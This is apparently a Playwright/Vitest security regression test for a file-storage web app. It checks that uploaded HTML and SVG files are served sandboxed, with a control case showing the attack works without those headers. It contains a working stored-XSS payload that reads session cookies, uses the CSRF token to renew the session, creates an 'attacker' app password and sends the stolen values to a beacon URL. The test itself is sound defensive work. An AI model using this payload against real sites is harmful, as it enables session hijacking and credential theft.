import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NodeBody } from './helpers/api.js';
import { CHROMIUM, launchChromium } from './helpers/browser.js';
import { DavUser } from './helpers/dav.js';
import { startTestServer, usingPostgres, type TestServer } from './helpers/server.js';

/**
 * Issue 9 item 2 in a real browser: the owner is signed in to the web app (refresh and
 * coffer_csrf cookies set), and opens an uploaded HTML and SVG file whose scripts try to read the
 * cookies, renew the session and create an app password for an attacker, reporting to a beacon.
 * Through every URL form that serves the bytes, nothing of that may happen. A control serves the
 * same page on Coffer's origin without the headers and shows that the attack does work then.
 */
const runsHere = process.env.COFFER_TEST_DATABASE_URL ? usingPostgres() : true;
const chromiumMissing = !fs.existsSync(CHROMIUM);
if (chromiumMissing && process.env.COFFER_TEST_REQUIRE_CLIENTS !== '1') {
  console.warn(`${CHROMIUM} is missing: the browser tests are skipped (apt-get install chromium)`);
}
const skip = !runsHere || (chromiumMissing && process.env.COFFER_TEST_REQUIRE_CLIENTS !== '1');

const PASSWORD = 'alice-password-123';

/** The attack of the review: runs as soon as the document is parsed. */
function attack(beacon: string): string {
  return `
(async () => {
  document.documentElement.setAttribute('data-ran', '1');
  const report = (k, v) => { const i = new Image(); i.src = ${JSON.stringify(beacon)} + '?at=' + encodeURIComponent(location.href) + '&k=' + k + '&v=' + encodeURIComponent(String(v)); document.documentElement.setAttribute('data-' + k, String(v)); };
  let cookie;
  try { cookie = document.cookie; } catch (e) { report('cookie-error', e.name); return; }
  report('cookie', cookie);
  const csrf = (/coffer_csrf=([^;]+)/.exec(cookie) || [])[1] || '';
  const renewed = await fetch('/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'x-csrf-token': csrf, 'content-type': 'application/json' }, body: '{}' });
  report('refresh', renewed.status);
  const { access_token } = await renewed.json();
  const created = await fetch('/api/v1/auth/app-passwords', { method: 'POST', headers: { authorization: 'Bearer ' + access_token, 'content-type': 'application/json' }, body: JSON.stringify({ name: 'attacker' }) });
  report('apppassword', created.status);
})().catch((e) => { document.documentElement.setAttribute('data-error', String(e)); });`;
}

const htmlPage = (beacon: string) => `<!doctype html><html><head><title>invoice</title></head><body><p>Invoice</p><script>${attack(beacon)}</script></body></html>`;
const svgImage = (beacon: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="red"/><script><![CDATA[${attack(beacon)}]]></script></svg>`;

/** What a script in the page could get at, read from outside it (CDP is not bound by the page's CSP). */
interface Seen {
  ran: string | null;
  origin: string;
  cookie: string;
}
const LOOK = `(() => {
  let cookie;
  try { cookie = document.cookie; } catch (e) { cookie = 'blocked: ' + e.name; }
  return { ran: document.documentElement.getAttribute('data-ran'), origin: self.origin, cookie };
})()`;

describe.skipIf(skip)('uploaded HTML and SVG cannot act as the signed-in owner (Chromium)', () => {
  let server: TestServer;
  let alice: DavUser;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let beaconServer: http.Server;
  let beaconUrl: string;
  let plainUrl: string;
  const hits: URL[] = [];

  const appPasswords = async () => (await alice.api.json<{ items: { name: string }[] }>('/auth/app-passwords')).body.items;
  const refreshCookie = async () => (await context.cookies()).find((c) => c.name === 'coffer_refresh' || (c.httpOnly && c.path.startsWith('/api/v1/auth')))?.value;

  beforeAll(async () => {
    // The attacker's beacon, and a plain listener that serves the same page with no headers but its type.
    server = await startTestServer({ COFFER_DAV_PORT: '0' });
    beaconServer = http.createServer((req, res) => {
      const url = new URL(req.url ?? '/', 'http://beacon');
      if (url.pathname === '/beacon') {
        hits.push(url);
        res.writeHead(204).end();
        return;
      }
      if (url.pathname === '/plain/invoice.html') {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(htmlPage(beaconUrl));
        return;
      }
      // Anything else goes on to Coffer, as a server that serves the page itself would answer.
      // Cookies are not scoped by port, so this host's Coffer cookies come along.
      const target = new URL(server.url);
      const upstream = http.request({ host: target.hostname, port: target.port, method: req.method, path: req.url, headers: req.headers }, (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
      });
      upstream.on('error', () => res.writeHead(502).end());
      req.pipe(upstream);
    });
    await new Promise<void>((resolve) => beaconServer.listen(0, '127.0.0.1', resolve));
    const port = (beaconServer.address() as AddressInfo).port;
    beaconUrl = `http://127.0.0.1:${port}/beacon`;
    plainUrl = `http://127.0.0.1:${port}/plain/invoice.html`;

    alice = await DavUser.create(server.url, 'alice');
    browser = await launchChromium();
    // No bypassCSP here (the other browser tests set it for axe): the CSP is what is under test.
    // Nor the app's service worker: it answers navigations itself, and the server's answers are under test.
    context = await browser.newContext({
      baseURL: server.url,
      acceptDownloads: true,
      serviceWorkers: 'block',
      httpCredentials: { username: 'alice', password: alice.appPassword },
    });
    page = await context.newPage();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await new Promise((resolve) => beaconServer?.close(resolve));
  });

  /** Navigates to the URL and reports what the document could reach; null when it was only downloaded. */
  const open = async (url: string): Promise<Seen | null> => {
    await page.goto('about:blank');
    const downloaded = page.waitForEvent('download', { timeout: 3000 }).then(
      async (d) => {
        await d.cancel().catch(() => undefined);
        return true;
      },
      () => false,
    );
    const navigated = await page.goto(url, { waitUntil: 'load' }).then(
      () => true,
      (err: Error) => {
        if (/Download is starting|net::ERR_ABORTED/.test(err.message)) return false;
        throw err;
      },
    );
    if (!navigated) {
      expect(await downloaded, `${url} neither showed nor downloaded`).toBe(true);
      return null;
    }
    // Time for the script's fetches and beacons, had it run.
    await page.waitForTimeout(400);
    return (await page.evaluate(LOOK)) as Seen;
  };

  it('signs in to the web app, so the session cookies exist', async () => {
    await page.goto('/');
    await page.getByLabel('Username or email').fill('alice');
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL('**/files');
    const names = (await context.cookies()).map((c) => c.name);
    expect(names).toContain('coffer_csrf');
    expect((await context.cookies()).some((c) => c.httpOnly)).toBe(true);
  });

  it('no URL form of an uploaded HTML or SVG file runs script with the cookies or the API', async () => {
    for (const [name, body, type] of [
      ['invoice.html', htmlPage(beaconUrl), 'text/html'],
      ['logo.svg', svgImage(beaconUrl), 'image/svg+xml'],
    ] as const) {
      expect((await alice.request('PUT', `/${name}`, { body, headers: { 'content-type': type } })).status).toBe(201);
    }
    // A second version, so the version route serves the payload as an old version.
    for (const name of ['invoice.html', 'logo.svg']) {
      const again = await alice.request('GET', `/${name}`);
      expect((await alice.request('PUT', `/${name}`, { body: again.body })).status).toBe(204);
    }
    const before = { passwords: (await appPasswords()).length, refresh: await refreshCookie() };
    expect(before.refresh).toBeTruthy();

    const urls: string[] = [];
    for (const name of ['invoice.html', 'logo.svg']) {
      urls.push(`${server.url}/dav/${name}`, `${server.url}/remote.php/webdav/${name}`, `${server.url}/remote.php/dav/files/alice/${name}`, `${server.davUrl}/${name}`);
      const file = (await alice.api.json<NodeBody>(`/resolve?path=${encodeURIComponent(`/${name}`)}`)).body;
      const versions = (await alice.api.json<{ items: { id: string; current: boolean }[] }>(`/files/${file.id}/versions`)).body.items;
      const old = versions.find((v) => !v.current)!;
      for (const json of [{ inline: true }, { inline: false }, { version_id: old.id, inline: true }, { version_id: old.id, inline: false }]) {
        // File links are made by the signed-in web session, as the app does for previews and downloads.
        const link = (await page.evaluate(
          `(async () => {
            const csrf = /coffer_csrf=([^;]+)/.exec(document.cookie)[1];
            const r = await fetch('/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'x-csrf-token': csrf, 'content-type': 'application/json' }, body: '{}' });
            const { access_token } = await r.json();
            const l = await fetch('/api/v1/files/${file.id}/links', { method: 'POST', headers: { authorization: 'Bearer ' + access_token, 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(json))} });
            return (await l.json()).url;
          })()`,
        )) as string;
        urls.push(new URL(link, server.url).toString());
      }
    }
    // Making the links renewed the session from this test, not from a payload: the baseline is now.
    before.refresh = await refreshCookie();

    const shown: string[] = [];
    for (const url of urls) {
      const seen = await open(url);
      if (seen === null) continue;
      shown.push(url);
      expect(seen.ran, `script ran at ${url}`).toBeNull();
      // Sandboxed: an opaque origin that could not reach Coffer's cookies even with script.
      expect(seen.origin, url).toBe('null');
      expect(seen.cookie, url).toMatch(/^blocked: SecurityError/);
    }
    // The inline forms are really shown (not just downloaded), so the sandbox was tested on them.
    expect(shown.filter((u) => u.includes('inline=1')).length).toBe(4);
    expect(hits.map(String)).toEqual([]);
    expect((await appPasswords()).length).toBe(before.passwords);
    expect(await refreshCookie()).toBe(before.refresh);

    // The same file in a frame of Coffer's own page (as the app previews PDFs) is sandboxed too.
    const inline = urls.find((u) => u.includes('inline=1') && u.includes('/content?'))!;
    await page.goto('/files');
    await page.evaluate(`(() => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(inline)}; document.body.append(f); })()`);
    await expect.poll(() => page.frames().map((f) => f.url())).toContain(inline);
    const frame = page.frames().find((f) => f.url() === inline)!;
    await frame.waitForLoadState('load');
    await page.waitForTimeout(400);
    const inFrame = (await frame.evaluate(LOOK)) as Seen;
    expect(inFrame.ran).toBeNull();
    expect(inFrame.origin).toBe('null');
    expect(hits.map(String)).toEqual([]);
  });

  it('control: the same page served by a plain listener without those headers does take over the session', async () => {
    const before = { passwords: (await appPasswords()).length, refresh: await refreshCookie() };
    // The plain listener serves the page with only its type, as Coffer did before the fix, and
    // passes the API on to Coffer.
    const seen = await open(plainUrl);
    expect(seen?.ran).toBe('1');
    await expect.poll(() => hits.filter((h) => h.searchParams.get('k') === 'apppassword').length, { timeout: 10_000 }).toBe(1);
    const reported = Object.fromEntries(hits.map((h) => [h.searchParams.get('k'), h.searchParams.get('v')]));
    expect(reported.cookie).toMatch(/coffer_csrf=/);
    expect(reported.refresh).toBe('200');
    expect(reported.apppassword).toBe('201');
    expect((await appPasswords()).length).toBe(before.passwords + 1);
    expect(await refreshCookie()).not.toBe(before.refresh);
  });

  it('a PDF shown inline under the sandbox still opens in Chromium\'s viewer', async () => {
    const pdf = minimalPdf();
    const up = await alice.api.upload('doc.pdf', pdf, { type: 'application/pdf' });
    expect(up.status).toBe(201);
    const link = await page.evaluate(
      `(async () => {
        const csrf = /coffer_csrf=([^;]+)/.exec(document.cookie)[1];
        const r = await fetch('/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'x-csrf-token': csrf, 'content-type': 'application/json' }, body: '{}' });
        const { access_token } = await r.json();
        const l = await fetch('/api/v1/files/${up.body.id}/links', { method: 'POST', headers: { authorization: 'Bearer ' + access_token, 'content-type': 'application/json' }, body: '{"inline":true}' });
        return (await l.json()).url;
      })()`,
    );
    const response = await page.goto(new URL(link as string, server.url).toString());
    expect(response?.status()).toBe(200);
    const served = await fetch(new URL(link as string, server.url));
    expect(served.headers.get('content-security-policy')).toMatch(/^sandbox;/);
    expect(served.headers.get('content-disposition')).toMatch(/^inline;/);
    // The built-in viewer is an extension frame; it loads the document and counts its page.
    await expect.poll(() => page.frames().some((f) => f.url().startsWith('chrome-extension://')), { timeout: 10_000 }).toBe(true);
    const viewer = page.frames().find((f) => f.url().startsWith('chrome-extension://'))!;
    await expect
      .poll(
        () =>
          viewer.evaluate(`(() => {
            const selector = document.querySelector('pdf-viewer')?.shadowRoot?.querySelector('viewer-toolbar')?.shadowRoot?.querySelector('viewer-page-selector');
            return selector ? selector.docLength : 'no page selector';
          })()`),
        { timeout: 10_000 },
      )
      .toBe(1);
  });
});

/** A one-page PDF with a line of text. */
function minimalPdf(): Buffer {
  const stream = 'BT /F1 24 Tf 20 100 Td (Hello) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
